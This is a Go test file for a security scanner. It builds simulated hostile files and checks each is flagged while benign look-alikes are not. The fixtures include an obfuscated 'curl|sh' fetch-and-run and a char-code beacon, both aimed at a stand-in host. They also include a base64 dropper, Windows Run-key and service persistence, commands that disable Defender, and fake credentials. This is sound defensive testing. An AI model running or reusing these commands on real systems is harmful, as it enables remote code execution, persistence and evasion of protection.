package builtin_test

import (
	"encoding/base64"
	"math/rand"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"kensa.dev/kensa/internal/result"
)

// obfuscationBuildEnv runs a compiler in dir with extra environment variables (a Go
// cross-build for Windows); the result is never run.
func obfuscationBuildEnv(t *testing.T, dir string, env []string, name string, args ...string) {
	t.Helper()
	cmd := exec.Command(name, args...)
	cmd.Dir = dir
	cmd.Env = append(append(os.Environ(), "CGO_ENABLED=0", "GOFLAGS=-mod=mod", "GOWORK=off"), env...)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%s %s: %v\n%s", name, strings.Join(args, " "), err, out)
	}
}

// obfuscationRead reads a file the test built.
func obfuscationRead(t *testing.T, p string) []byte {
	t.Helper()
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// TestRecallObfuscationSecretsWindows builds a delivery holding simulators of encrypted
// code, encoded and hidden executables, obfuscated scripts, service credentials and
// Windows persistence and defence-evasion scripts (never run), beside ordinary files
// that look like them, and checks each simulator is flagged at its family's severity and
// the ordinary files get nothing at medium or above.
func TestRecallObfuscationSecretsWindows(t *testing.T) {
	d := t.TempDir()

	// An ELF program with 16 KiB of pseudo-random bytes in an executable section (a
	// crypter stub), and an ordinary program built from the same source without them.
	keystream := make([]byte, 16<<10)
	rand.New(rand.NewSource(7)).Read(keystream)
	write(t, d, "src/stub.bin", string(keystream), 0o644)
	write(t, d, "src/stub.c", `#include <stdio.h>
#ifdef PAYLOAD
__asm__(".section .stub,\"ax\",@progbits\n.globl payload\npayload:\n.incbin \"stub.bin\"\n.text\n");
extern const unsigned char payload[];
#else
static const unsigned char payload[1] = {0};
#endif
int main(void) { printf("%02x\n", payload[0]); return 0; }
`, 0o644)
	write(t, d, "opt/agent/bin/.keep", "", 0o644)
	build(t, filepath.Join(d, "src"), "gcc", "-O2", "-s", "-DPAYLOAD", "-o", "../opt/agent/bin/agent-updater", "stub.c")
	build(t, filepath.Join(d, "src"), "gcc", "-O2", "-s", "-o", "../opt/agent/bin/agent-status", "stub.c")

	// A Windows program (Go) with a second program appended as its overlay, and one with
	// settings text appended.
	write(t, d, "src/win/go.mod", "module example.com/winagent\n\ngo 1.22\n", 0o644)
	write(t, d, "src/win/main.go", "package main\n\nimport \"fmt\"\n\nfunc main() { fmt.Println(\"agent\") }\n", 0o644)
	obfuscationBuildEnv(t, filepath.Join(d, "src/win"), []string{"GOOS=windows", "GOARCH=amd64"},
		"go", "build", "-trimpath", "-ldflags=-s -w", "-o", "agent.exe", ".")
	exe := obfuscationRead(t, filepath.Join(d, "src/win/agent.exe"))
	write(t, d, "win/setup.exe", string(exe)+string(exe), 0o755)
	write(t, d, "win/agent.exe", string(exe)+"[update]\nchannel=stable\nserver=updates.example.com\n", 0o755)

	// Droppers: a shell script carrying the ELF program as base64; a loader evaluating
	// character codes; escaped shell evaluated.
	elf := obfuscationRead(t, filepath.Join(d, "opt/agent/bin/agent-status"))
	write(t, d, "scripts/postinst", "#!/bin/sh\nset -e\nbase64 -d > /usr/lib/agent/.cache-helper <<'EOF'\n"+
		base64.StdEncoding.EncodeToString(elf)+"\nEOF\nchmod 755 /usr/lib/agent/.cache-helper\n/usr/lib/agent/.cache-helper &\n", 0o755)
	write(t, d, "web/static/analytics.js", "(function(){var s=String.fromCharCode(118,97,114,32,105,61,110,101,119,32,73,109,97,103,101,40,41,59,105,46,115,114,99,61,39,47,47,49,57,56,46,53,49,46,49,48,48,46,55,47,99,63,39);eval(s);})();\n", 0o644)
	write(t, d, "scripts/cleanup.sh", "#!/bin/bash\neval $'\\x63\\x75\\x72\\x6c\\x20\\x2d\\x73\\x20\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f\\x31\\x39\\x38\\x2e\\x35\\x31\\x2e\\x31\\x30\\x30\\x2e\\x37\\x7c\\x73\\x68'\n", 0o755)

	// Windows persistence and defence evasion.
	write(t, d, "win/install.bat", "@echo off\r\ncopy /y helper.exe \"%APPDATA%\\Agent\\helper.exe\"\r\nsc create AgentHelper binPath= \"%APPDATA%\\Agent\\helper.exe\" start= auto\r\nreg add \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\" /v AgentTray /t REG_SZ /d \"%APPDATA%\\Agent\\tray.exe\" /f\r\n", 0o644)
	write(t, d, "win/prepare.ps1", "Add-MpPreference -ExclusionPath \"$env:TEMP\"\nSet-MpPreference -DisableRealtimeMonitoring $true\n", 0o644)

	// Service credentials.
	write(t, d, "deploy/kubeconfig", "apiVersion: v1\nkind: Config\nusers:\n- name: admin\n  user:\n    client-key-data: "+
		base64.StdEncoding.EncodeToString(keystream[:300])+"\n", 0o600)
	write(t, d, "deploy/.npmrc", "//registry.npmjs.org/:_authToken=npm_Zk3p9QxV2mWb7TcR4yLh8NsD1fGj6KaE0uPq\n", 0o600)

	// Ordinary look-alikes.
	write(t, d, "win/install-service.bat", "@echo off\r\nsc create Agent binPath= \"\\\"C:\\Program Files\\Agent\\agent.exe\\\" --service\" start= auto\r\nsc description Agent \"Agent service; logs in %TEMP%\\agent-install.log\"\r\n", 0o644)
	write(t, d, "win/check-defender.ps1", "$p = Get-MpPreference\nif ($p.DisableRealtimeMonitoring) { Write-Error 'turn real-time protection on'; exit 1 }\nWrite-Host ($p.ExclusionPath -join ', ')\n", 0o644)
	write(t, d, "web/static/keys.js", "export const ESC = String.fromCharCode(27);\nexport function name(c) { return c >= 48 && c <= 90 ? String.fromCharCode(c) : 'Key' + c; }\n", 0o644)
	write(t, d, "deploy/kubeconfig-sso", "apiVersion: v1\nkind: Config\nusers:\n- name: sso\n  user:\n    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: kubelogin\n", 0o644)
	write(t, d, "deploy/npmrc.example", "//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n", 0o644)
	write(t, d, "scripts/colours.sh", "#!/bin/bash\nRED=$'\\x1b[31m'; RESET=$'\\x1b[0m'\neval \"$(dircolors -b)\"\necho \"${RED}done${RESET}\"\n", 0o755)

	mingw := ""
	if p, err := exec.LookPath("x86_64-w64-mingw32-gcc"); err == nil {
		mingw = p
		// A side-loading proxy named version.dll that forwards to System32, and a DLL
		// with a TLS callback in a section of its own.
		write(t, d, "src/proxy.c", "#include <windows.h>\nBOOL WINAPI DllMain(HINSTANCE h, DWORD r, LPVOID p) { (void)h; (void)r; (void)p; return TRUE; }\n", 0o644)
		write(t, d, "src/proxy.def", "LIBRARY version.dll\nEXPORTS\n  GetFileVersionInfoW = \"C:\\Windows\\System32\\version.GetFileVersionInfoW\"\n  VerQueryValueW = \"C:\\Windows\\System32\\version.VerQueryValueW\"\n", 0o644)
		build(t, filepath.Join(d, "src"), mingw, "-O2", "-s", "-shared", "-o", "../win/version.dll", "proxy.c", "proxy.def")
		write(t, d, "src/tls.c", `#include <windows.h>
static volatile LONG n;
__attribute__((section(".stub"), noinline)) static void NTAPI cb(PVOID h, DWORD r, PVOID p) { (void)h; (void)p; if (r == 1) InterlockedIncrement(&n); }
__attribute__((section(".CRT$XLF"), used)) PIMAGE_TLS_CALLBACK tls_cb = cb;
int main(void) { return (int)n; }
`, 0o644)
		build(t, filepath.Join(d, "src"), mingw, "-O2", "-s", "-o", "../win/launcher.exe", "tls.c")
		write(t, d, "src/plain.c", "#include <stdio.h>\nint main(void) { puts(\"ok\"); return 0; }\n", 0o644)
		build(t, filepath.Join(d, "src"), mingw, "-O2", "-s", "-o", "../win/plain.exe", "plain.c")
	}
	// The sources are not part of the delivery under test.
	if err := os.RemoveAll(filepath.Join(d, "src")); err != nil {
		t.Fatal(err)
	}

	res := scan(t, d)
	wantFinding(t, res, "opt/agent/bin/agent-updater", "obfuscation/encrypted-code-section-elf", result.High)
	wantFinding(t, res, "win/setup.exe", "windows/executable-overlay", result.High)
	wantFinding(t, res, "scripts/postinst", "obfuscation/encoded-executable", result.High)
	wantFinding(t, res, "web/static/analytics.js", "obfuscation/char-code-eval", result.High)
	wantFinding(t, res, "scripts/cleanup.sh", "obfuscation/shell-escaped-eval", result.High)
	wantFinding(t, res, "win/install.bat", "windows/service-from-user-writable-path", result.High)
	wantFinding(t, res, "win/install.bat", "windows/registry-run-key", result.Medium)
	wantFinding(t, res, "win/prepare.ps1", "windows/defender-disabled", result.High)
	wantFinding(t, res, "win/prepare.ps1", "windows/defender-exclusion-broad", result.High)
	wantFinding(t, res, "deploy/kubeconfig", "secrets/kubeconfig-credentials", result.High)
	wantFinding(t, res, "deploy/.npmrc", "secrets/package-registry-token", result.High)
	for _, p := range []string{"opt/agent/bin/agent-status", "win/agent.exe", "win/install-service.bat",
		"win/check-defender.ps1", "web/static/keys.js", "deploy/kubeconfig-sso", "deploy/npmrc.example",
		"scripts/colours.sh"} {
		wantNoFinding(t, res, p, result.Medium)
	}
	if mingw != "" {
		wantFinding(t, res, "win/version.dll", "windows/system-dll-proxy", result.High)
		wantFinding(t, res, "win/launcher.exe", "windows/tls-callback-outside-code-section", result.High)
		wantNoFinding(t, res, "win/plain.exe", result.Medium)
	} else {
		t.Log("x86_64-w64-mingw32-gcc not found: the DLL proxy and TLS callback simulators were not built")
	}
}
